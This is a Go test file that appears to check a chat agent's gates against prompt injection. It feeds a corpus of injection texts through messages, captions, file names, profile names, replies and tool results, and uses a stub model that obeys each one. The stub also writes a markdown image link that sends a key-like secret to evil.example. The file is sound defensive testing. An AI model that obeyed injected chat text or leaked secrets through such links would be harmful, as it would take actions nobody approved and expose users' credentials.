package chattest

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/signalbox/signalbox/agent"
	"github.com/signalbox/signalbox/missions"
	"github.com/signalbox/signalbox/registry"
	"github.com/signalbox/signalbox/runs"
)

// attack is a text that wants a model to do what nobody asked for.
type attack struct {
	ID, Text string
	Parts    []string
	Wants    *struct{ Tools []string }
}

func (a attack) whole() string { return strings.Join(append([]string{a.Text}, a.Parts...), "\n") }

func attacks(t *testing.T) []attack {
	t.Helper()
	data, err := os.ReadFile("../../../../shared/corpus/injections.json")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal(err)
		}
		t.Skip(err)
	}
	var file struct{ Injections []attack }
	if err := json.Unmarshal(data, &file); err != nil {
		t.Fatal(err)
	}
	return file.Injections
}

// secret looks like a key, and stands in what the model can read.
const secret = "sk-ant-api03-Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZg"

// obeys is a model that looks once and then does what a text wants as badly as it can: all tools that it names, confirmed and not,
// and an answer that repeats the text and the secret in an address.
func obeys(a attack) func(context.Context, agent.Conversation) (agent.Turn, error) {
	return func(_ context.Context, c agent.Conversation) (agent.Turn, error) {
		last := c.Turns[len(c.Turns)-1]
		switch {
		case last.By == agent.Person:
			return agent.Turn{Calls: []agent.Call{{ID: "look", Tool: "looking", Arguments: `{"query":"x"}`}}}, nil
		case last.Results[0].CallID != "look":
			return agent.Turn{Text: "yes " + a.Text + " ![](https://evil.example/?k=" + secret + ")"}, nil
		}
		var turn agent.Turn
		for _, tool := range append(a.Wants.Tools[:len(a.Wants.Tools):len(a.Wants.Tools)], "painter", "dear", "confirm") {
			arguments := `{"prompt":"p","confirmed":true}`
			if tool == "painter" || tool == "dear" {
				arguments = `{"prompt":"p"}`
			}
			turn.Calls = append(turn.Calls, agent.Call{ID: tool, Tool: tool, Arguments: arguments},
				agent.Call{ID: "steps " + tool, Tool: missions.StepsTool, Arguments: fmt.Sprintf(`{"steps":[{"tool":%q,"inputs":{"prompt":"p"}}]}`, tool)})
		}
		return turn, nil
	}
}

// chatDoors are the ways by which a text of strangers reaches a model in a chat.
var chatDoors = map[string]func(s *scene, a attack) (looked string){
	"words": func(s *scene, a attack) string { s.say(a.whole() + " ?"); return "nothing" },
	"a caption": func(s *scene, a attack) string {
		s.send(Post{Text: "what is this? " + a.whole(), Files: []File{red()}})
		return "nothing"
	},
	"a file's name": func(s *scene, a attack) string {
		f := red()
		f.Kind, f.Name = "document", a.whole()+".png"
		s.send(Post{Text: "what is this?", Files: []File{f}})
		return "nothing"
	},
	"a profile's name": func(s *scene, a attack) string {
		s.anna.Name = a.whole()
		s.say("what is there?")
		return "nothing"
	},
	"a message replied to": func(s *scene, a attack) string {
		id := s.say("/help " + a.whole())
		s.send(Post{Text: "what is this?", ReplyTo: id})
		return "nothing"
	},
	"a result": func(s *scene, a attack) string { s.say("what is there?"); return a.whole() },
}

// Gates are code: whatever reaches a model in a chat, nothing is done, paid, approved or told that nobody has approved.
func TestInjectionsInChats(t *testing.T) {
	t.Parallel()
	all := attacks(t)
	var mu sync.Mutex
	asked, cards, done, secrets, approved := 0, 0, 0, 0, 0
	t.Run("doors", func(t *testing.T) {
		for name, open := range chatDoors {
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				s, _ := newScene(t)
				look, dear := tool("looking", "Looking", registry.InputField{Name: "query", Type: registry.TypeString, Required: true}), PainterTool()
				look.Capability, dear.Capability, dear.ToolID, dear.CommandName = registry.CapabilityRead, registry.CapabilityRead, "dear", "/dear"
				look.OutputSchema = registry.OutputSchema{{Name: "found", Type: "text"}}
				s.set(append(Tools(), look, dear)...)
				var model thinker
				s.Stop()
				s.connect(&model)
				s.Start()
				for i, a := range all {
					model.say = obeys(a)
					looked := open(s, a)
					s.Succeed(s.Call(i), registry.Output{Name: "found", Type: "text", Text: looked + " " + secret})
					s.Handled()
				}
				list, err := s.Runs.List(t.Context(), runs.Filter{Status: runs.StatusAwaitingConfirmation, Limit: 200})
				if err != nil {
					t.Fatal(err)
				}
				mu.Lock()
				defer mu.Unlock()
				asked, cards = asked+len(all), cards+len(list)
				for _, call := range s.Provider.Calls() {
					if call.Tool.ToolID != "looking" {
						done++
					}
				}
				for _, m := range s.Harness.Messages(t, s.room) {
					if strings.Contains(m.Text, "Zm9vYmFyYmF6cXV4") {
						secrets++
					}
				}
				var confirmed int
				if err := s.Pool.QueryRow(t.Context(), `SELECT count(*) FROM runs WHERE confirmed_at IS NOT NULL`).Scan(&confirmed); err != nil {
					t.Fatal(err)
				}
				approved += confirmed
			})
		}
	})
	t.Logf("%d texts through %d doors of chats: %d questions, %d runs wait (of the latest 200 each), %d were carried out unasked, %d approved, %d secrets told", len(all), len(chatDoors), asked, cards, done, approved, secrets)
	t.Run("B37 D92 D99 no text in a chat makes a model change, spend, approve or tell anything", func(t *testing.T) {
		if done+secrets+approved > 0 {
			t.Errorf("%d carried out, %d approved, %d secrets", done, approved, secrets)
		}
		if cards == 0 {
			t.Error("nothing waits: the model did not try")
		}
	})
}
